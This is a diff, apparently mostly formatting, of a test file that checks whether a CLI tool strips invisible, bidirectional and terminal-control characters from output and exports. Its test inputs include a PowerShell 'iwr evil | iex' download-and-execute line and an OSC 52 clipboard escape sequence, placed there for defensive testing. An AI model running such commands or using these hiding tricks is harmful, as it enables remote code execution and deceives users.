@@ -13,10 +13,37 @@ import {runBinary} from '../helpers/run-binary.js';
 import {buildSession} from '../session/session-fixtures.js';
 
 const HOSTILE = [
-	'\u202E', '\u202A', '\u202B', '\u202C', '\u202D', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C',
-	'\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u2028', '\u2029', '\u{E0041}', '\u0085', '\u009B', '\u001B', '\u0007', '\r',
+	'\u202E',
+	'\u202A',
+	'\u202B',
+	'\u202C',
+	'\u202D',
+	'\u2066',
+	'\u2067',
+	'\u2068',
+	'\u2069',
+	'\u200E',
+	'\u200F',
+	'\u061C',
+	'\u200B',
+	'\u200C',
+	'\u200D',
+	'\u2060',
+	'\uFEFF',
+	'\u00AD',
+	'\u2028',
+	'\u2029',
+	'\u{E0041}',
+	'\u0085',
+	'\u009B',
+	'\u001B',
+	'\u0007',
+	'\r',
 ];
-const FORBIDDEN = new RegExp(`[${HOSTILE.filter((char) => char.length === 1).join('')}]|\\u{E0041}`, 'u');
+const FORBIDDEN = new RegExp(
+	`[${HOSTILE.filter((char) => char.length === 1).join('')}]|\\u{E0041}`,
+	'u',
+);
 
 const made: string[] = [];
 afterEach(() => {
@@ -28,7 +55,9 @@ describe('sanitizeText', () => {
 		expect(sanitizeText(`iwr evil${HOSTILE.join('')} | iex`)).toBe('iwr evil   | iex');
 		expect(sanitizeText('a\u001B]52;c;aGVsbG8=\u0007b\u001B[2Jc\u009B31md')).toBe('abcd');
 		// Japanese text, the ideographic space, emoji and newlines and tabs are left alone.
-		expect(sanitizeText('更新後に印刷できない\u3000（例）👍\n\tok')).toBe('更新後に印刷できない\u3000（例）👍\n\tok');
+		expect(sanitizeText('更新後に印刷できない\u3000（例）👍\n\tok')).toBe(
+			'更新後に印刷できない\u3000（例）👍\n\tok',
+		);
 		// A joiner inside an emoji sequence draws one picture and stays; anywhere else it goes.
 		expect(sanitizeText('👩\u200D💻 👍🏽\u200D a\u200Db')).toBe('👩\u200D💻 👍🏽 ab');
 	});
@@ -41,9 +70,14 @@ describe('nothing invisible reaches the terminal or an export (real binary)', ()
 		const dir = join(base, 'logs');
 		mkdirSync(dir, {mode: 0o700});
 		const value = `Windows 11${HOSTILE.join('')} Pro`;
-		const {events} = buildSession((t, state) => t.answer(state, 'stuck'), {file: EXAMPLE_FLOW, facts: {'os.product': {value, origin: 'flag'}}});
+		const {events} = buildSession((t, state) => t.answer(state, 'stuck'), {
+			file: EXAMPLE_FLOW,
+			facts: {'os.product': {value, origin: 'flag'}},
+		});
 		const file = join(dir, '20260120-091500-ab12.jsonl');
-		writeFileSync(file, events.map((event) => JSON.stringify(event)).join('\n') + '\n', {mode: 0o600});
+		writeFileSync(file, events.map((event) => JSON.stringify(event)).join('\n') + '\n', {
+			mode: 0o600,
+		});
 		const env = {XDG_CONFIG_HOME: join(base, 'config')};
 
 		const runs = await Promise.all([
@@ -53,7 +87,21 @@ describe('nothing invisible reaches the terminal or an export (real binary)', ()
 			runBinary(['export', file, '--format', 'md', '--lang', 'en'], {env}),
 			runBinary(['export', file, '--format', 'json'], {env}),
 			runBinary(['watch', file, '--lang', 'en'], {env, timeoutMs: 3000}),
-			runBinary(['--flow', EXAMPLE_FLOW, '--no-detect', '--plain', '--lang', 'en', '--log-dir', join(base, 'run'), '--fact', `os.product=${value}`], {input: '2\n1\n', env}),
+			runBinary(
+				[
+					'--flow',
+					EXAMPLE_FLOW,
+					'--no-detect',
+					'--plain',
+					'--lang',
+					'en',
+					'--log-dir',
+					join(base, 'run'),
+					'--fact',
+					`os.product=${value}`,
+				],
+				{input: '2\n1\n', env},
+			),
 			runBinary(['--resume', `x${HOSTILE.slice(0, 20).join('')}y`, '--log-dir', dir], {env}),
 		]);
 		for (const run of runs) {
